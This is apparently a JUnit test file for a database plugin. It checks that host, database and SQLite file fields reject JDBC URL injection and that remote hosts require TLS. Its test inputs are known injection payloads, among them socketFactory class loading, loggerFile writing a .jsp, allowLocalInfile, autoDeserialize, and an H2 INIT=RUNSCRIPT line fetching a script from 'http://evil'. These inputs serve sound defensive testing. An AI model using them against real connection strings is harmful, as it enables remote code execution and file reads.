package kr.madang.plugins.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Optional;
import kr.madang.plugins.jdbc.Server.Mode;
import kr.madang.plugins.jdbc.Server.Tls;
import kr.madang.sdk.config.Secret;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

class ServerTest {
  @TempDir Path folder;

  // What has run code or read files when it stood in the URLs of other products.
  @ParameterizedTest
  @ValueSource(
      strings = {
        "h?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
        "h/?loggerLevel=TRACE&loggerFile=/tmp/x.jsp",
        "h:5432/db?sslfactory=x",
        "a,b",
        "h&allowLocalInfile=true",
        "h)(autoDeserialize=true",
        "h#x",
        "h;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "ldap://evil/x",
        "h\n",
        "",
        " "
      })
  void aHostIsAHostAndNothingElse(String host) {
    assertThatThrownBy(() -> server(Kind.POSTGRESQL, host, "db", "u"))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageStartingWith("server.host: expected one host name or address");
  }

  @ParameterizedTest
  @EnumSource(
      value = Kind.class,
      names = {"POSTGRESQL", "MARIADB"})
  void theNameOfADatabaseCannotSetAProperty(Kind kind) {
    for (String name :
        List.of(
            "db?loggerFile=/tmp/x", "db&allowLocalInfile=true", "../x", "db#y", "a;b", "a%3Fb")) {
      assertThatThrownBy(() -> server(kind, "h", name, "u"))
          .isInstanceOf(IllegalArgumentException.class)
          .hasMessageStartingWith("server.database: expected");
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"x.db?enable_load_extension=true", "x.db?init=y", "a\u0000b"})
  void theFileOfSqliteCannotSetAProperty(String file) {
    assertThatThrownBy(() -> Configs.sqlite(Path.of("/tmp").resolve(file)))
        .isInstanceOf(IllegalArgumentException.class);
  }

  @Test
  void aPathThatLooksLikeAResourceIsAFile() throws Exception {
    Path odd = Files.createDirectory(folder.resolve(":resource:http:")).resolve("x.db");
    Drivers.open(Configs.sqlite(odd), Duration.ofSeconds(1), "t").close();
    assertThat(odd).exists();
  }

  @Test
  void aFarServerIsNotSpokenToInTheClear() {
    assertThat(server(Kind.POSTGRESQL, "10.0.0.7", "db", "u").tlsMode()).isEqualTo(Mode.VERIFY);
    assertThat(server(Kind.POSTGRESQL, "127.0.0.1", "db", "u").tlsMode()).isEqualTo(Mode.OFF);
    assertThat(server(Kind.POSTGRESQL, "127.evil.com", "db", "u").tlsMode()).isEqualTo(Mode.VERIFY);
  }

  private static Server server(Kind kind, String host, String database, String user) {
    return new Server(
        kind,
        Optional.of(host),
        Optional.empty(),
        Optional.of(database),
        Optional.of(user),
        Optional.of(new Secret("p")),
        new Tls(Mode.AUTO, Optional.empty()),
        Optional.empty());
  }
}
